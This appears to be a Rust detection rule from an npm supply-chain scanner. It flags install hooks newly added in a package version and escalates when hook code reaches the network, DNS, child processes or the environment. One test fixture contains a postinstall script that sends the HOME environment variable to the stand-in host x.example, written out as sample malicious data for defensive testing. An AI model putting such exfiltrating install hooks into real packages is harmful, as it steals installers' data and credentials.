//! `new-install-script`: the version adds an install hook.

use turncoat_finding::{Evidence, Finding, Level, RuleDoc, Severity};
use turncoat_npm::semver::Bump;

use super::{DiffCx, changed_hooks};
use crate::facts::{Capability, ShellFeature};

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "new-install-script",
    group: "analyze",
    severity: Severity::High,
    default_level: Level::Deny,
    summary: "The version adds a preinstall/install/postinstall hook the previous version did not have.",
    doc: r#"Flags an install hook (`preinstall`, `install`, `postinstall`, or npm's implicit `node-gyp rebuild` for a new `binding.gyp`) that the previous version did not declare. A new `prepare` is reported at info level: it runs only for git installs.

**Severity.**
- high when the package had no install hook before; medium when it already ran one (a new hook of a package that always ran scripts); low for the implicit `node-gyp rebuild`;
- **critical** in a patch, minor or prerelease when the hook's code (the files it runs and what they load) reaches the network, DNS, `child_process` or the environment, or the command downloads or looks up DNS: hook + capability in x.y.z+1 is the takeover shape (eslint-scope, eslint-config-prettier, nx, Shai-Hulud).

**Why it matters.** A hook runs on every `npm install` with the installing user's and the CI's credentials, before any code review of the dependency happens.

**Example.** 3.1.4 had no scripts; 3.1.5 adds `"postinstall": "node lib/setup.js"`.

**How to silence.** Approve the hook for the exact version (npm 12 `allowScripts`, pnpm `allowBuilds`) and add a policy exception on `new-install-script` for `name@version`."#,
};

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    let old_had_hooks = cx
        .old
        .manifest
        .as_ref()
        .is_some_and(|m| !m.install_hooks.is_empty());
    for (name, hook, before) in changed_hooks(cx) {
        if before.is_some() {
            continue;
        }
        let implicit_gyp = hook.command == "node-gyp rebuild";
        let reach = [
            Capability::Network,
            Capability::Dns,
            Capability::ChildProcess,
            Capability::EnvRead,
            Capability::EnvDump,
            Capability::SensitiveRead,
        ];
        let reached: Vec<&str> = reach
            .iter()
            .filter(|&&c| {
                cx.new
                    .scripts()
                    .any(|(p, js)| cx.new.is_install_time(p) && js.has(c))
            })
            .map(|c| c.describe())
            .collect();
        let shell_reach = hook.features.iter().any(|f| {
            matches!(
                f,
                ShellFeature::Download | ShellFeature::DnsLookup | ShellFeature::PipeToShell
            )
        });
        let small_step = matches!(
            cx.bump(),
            Bump::Patch | Bump::Minor | Bump::Prerelease | Bump::Unknown
        );
        let severity = if small_step && (!reached.is_empty() || shell_reach) {
            Severity::Critical
        } else if implicit_gyp {
            Severity::Low
        } else if old_had_hooks {
            Severity::Medium
        } else {
            RULE.severity
        };
        let mut message = format!(
            "{} adds a {name} hook ({}); {} had {}",
            cx.to(),
            hook.command,
            cx.from(),
            if old_had_hooks {
                "other install hooks"
            } else {
                "no install hook"
            },
        );
        if !reached.is_empty() {
            message.push_str(&format!("; its code {}", reached.join(", ")));
        }
        let mut f = Finding::new(&RULE, message)
            .with_severity(severity)
            .with_evidence(
                Evidence::new("package.json")
                    .with_snippet(&format!("\"{name}\": {:?}", hook.command)),
            );
        for entry in &hook.entry_files {
            f = f.with_evidence(Evidence::new(entry.clone()));
        }
        out.push(f);
    }
    let old_prepare = cx.old.manifest.as_ref().and_then(|m| m.prepare.as_ref());
    if let Some(p) = cx.new.manifest.as_ref().and_then(|m| m.prepare.as_ref())
        && old_prepare.is_none()
    {
        out.push(
            Finding::new(
                &RULE,
                format!(
                    "{} adds a prepare script ({}), which runs only when installed from git",
                    cx.to(),
                    p.command
                ),
            )
            .with_severity(Severity::Info)
            .with_evidence(
                Evidence::new("package.json")
                    .with_snippet(&format!("\"prepare\": {:?}", p.command)),
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    #[test]
    fn takeover_shape_is_critical() {
        let hook = r#""scripts":{"postinstall":"node setup.js"}"#;
        let f = diff_versions(
            "3.1.4",
            &[
                ("package.json", &manifest("3.1.4", "")),
                ("index.js", "module.exports = 1;"),
            ],
            "3.1.5",
            &[
                ("package.json", &manifest("3.1.5", hook)),
                ("index.js", "module.exports = 1;"),
                (
                    "setup.js",
                    "require('https').get('https://x.example/?' + process.env.HOME);",
                ),
            ],
        );
        let hit = find(&f, RULE.code).expect("finding");
        assert_eq!(hit.severity, Severity::Critical);
        assert!(hit.evidence.iter().any(|e| e.path == "setup.js"));
    }

    #[test]
    fn plain_new_hook_is_high_existing_hook_is_quiet() {
        let hook = r#""scripts":{"postinstall":"node setup.js"}"#;
        let files_new = [
            ("package.json", manifest("1.0.1", hook)),
            ("setup.js", "console.log(1)".to_string()),
        ];
        let new: Vec<(&str, &str)> = files_new.iter().map(|(p, d)| (*p, d.as_str())).collect();
        let f = diff_versions(
            "1.0.0",
            &[("package.json", &manifest("1.0.0", ""))],
            "1.0.1",
            &new,
        );
        assert_eq!(
            find(&f, RULE.code).map(|f| f.severity),
            Some(Severity::High)
        );
        let old = [
            ("package.json", manifest("1.0.0", hook)),
            ("setup.js", "console.log(1)".to_string()),
        ];
        let old: Vec<(&str, &str)> = old.iter().map(|(p, d)| (*p, d.as_str())).collect();
        let f = diff_versions("1.0.0", &old, "1.0.1", &new);
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }

    #[test]
    fn prepare_is_info() {
        let f = diff_manifest(r#""scripts":{"prepare":"husky"}"#);
        assert_eq!(
            find(&f, RULE.code).map(|f| f.severity),
            Some(Severity::Info)
        );
    }
}
